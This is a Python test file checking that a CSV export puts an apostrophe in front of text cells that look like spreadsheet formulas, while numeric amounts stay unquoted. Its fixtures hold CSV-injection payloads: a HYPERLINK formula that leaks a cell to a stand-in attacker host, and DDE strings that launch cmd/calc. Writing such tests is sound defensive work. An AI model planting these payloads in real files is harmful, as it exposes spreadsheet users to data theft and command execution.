"""A CSV export never hands a spreadsheet a formula: text that starts like one is written behind a `'`.

Numbers typed as numbers in the record (amounts) are written as they are, negative ones included; every other
cell is text. The files are read back with the csv module, as a spreadsheet would read their cells.
"""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path

from typer.testing import CliRunner

from claimflow.doctypes import INVOICE
from claimflow.runtime.cli import app
from claimflow.runtime.export import write_records
from claimflow.state.evidence import Evidence
from claimflow.state.records import record_model
from claimflow.state.schema import DocumentTypes
from tests.integration._docs import invoice_text, write

HYPERLINK = '=HYPERLINK("http://attacker.test/?leak="&A1,"Northwind")'


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def _field(value: object) -> dict[str, object]:
    return {"value": value, "status": "accepted", "decided_by": "test"}


def test_text_that_starts_a_formula_is_quoted_and_numbers_stay_numbers(tmp_path: Path) -> None:
    evidence = Evidence(page=1, start=0, end=9, quote="\t=1+1 cmd")
    record = record_model(INVOICE).model_validate(
        {
            "run_id": "run-1",
            "document_id": "ab" * 32,
            "filename": "@SUM(1+1).txt",
            "doc_type": "invoice",
            "vendor_name": _field(HYPERLINK),
            "invoice_number": _field("-12.50"),
            "currency": _field("+EUR"),
            "net_amount": _field(Decimal("-12.50")),
            "total_amount": _field(Decimal("180.00")),
            "line_items": [
                {"description": "\r=cmd|' /C calc'!A0", "amount": Decimal("-3.00"), "evidence": evidence},
                {
                    "description": "Copier paper",
                    "quantity": Decimal("2"),
                    "amount": Decimal("20.00"),
                    "evidence": evidence,
                },
            ],
        }
    )

    written = write_records([record], tmp_path / "records.csv", DocumentTypes([INVOICE])).files

    assert written == (tmp_path / "records.csv", tmp_path / "records.line_items.csv")
    [row] = _rows(written[0])
    assert row["document"] == "'@SUM(1+1).txt"
    assert row["vendor_name"] == "'" + HYPERLINK
    assert row["invoice_number"] == "'-12.50"  # text in the record, though it looks like a number
    assert row["currency"] == "'+EUR"
    assert (row["net_amount"], row["total_amount"]) == ("-12.50", "180.00")  # numbers in the record
    assert (row["run_id"], row["vendor_name_status"], row["due_date"]) == ("run-1", "accepted", "")
    first, second = _rows(written[1])
    assert (first["description"], first["amount"], first["quote"]) == ("'\r=cmd|' /C calc'!A0", "-3.00", "'\t=1+1 cmd")
    assert (second["description"], second["quantity"], second["amount"]) == ("Copier paper", "2", "20.00")
    assert (first["row"], first["page"]) == ("1", "1")


def test_a_document_named_like_a_formula_is_exported_as_text(tmp_path: Path) -> None:
    name = "=2+5+cmd|' -C calc'!A0.txt"
    document = write(tmp_path / "docs", name, invoice_text())
    data = tmp_path / "data"
    runner = CliRunner(env={"COLUMNS": "1000"})
    ran = runner.invoke(app, ["run", str(document), "--json", "--data-dir", str(data)])
    assert ran.exit_code == 0, ran.output
    assert json.loads(ran.stdout)["status"] == "completed"

    exported = runner.invoke(app, ["export", str(tmp_path / "out.csv"), "--data-dir", str(data)])

    assert exported.exit_code == 0, exported.output
    [row] = _rows(tmp_path / "out.csv")
    assert row["document"] == "'" + name
    assert (row["vendor_name"], row["total_amount"]) == ("Northwind Widgets Ltd", "180.00")
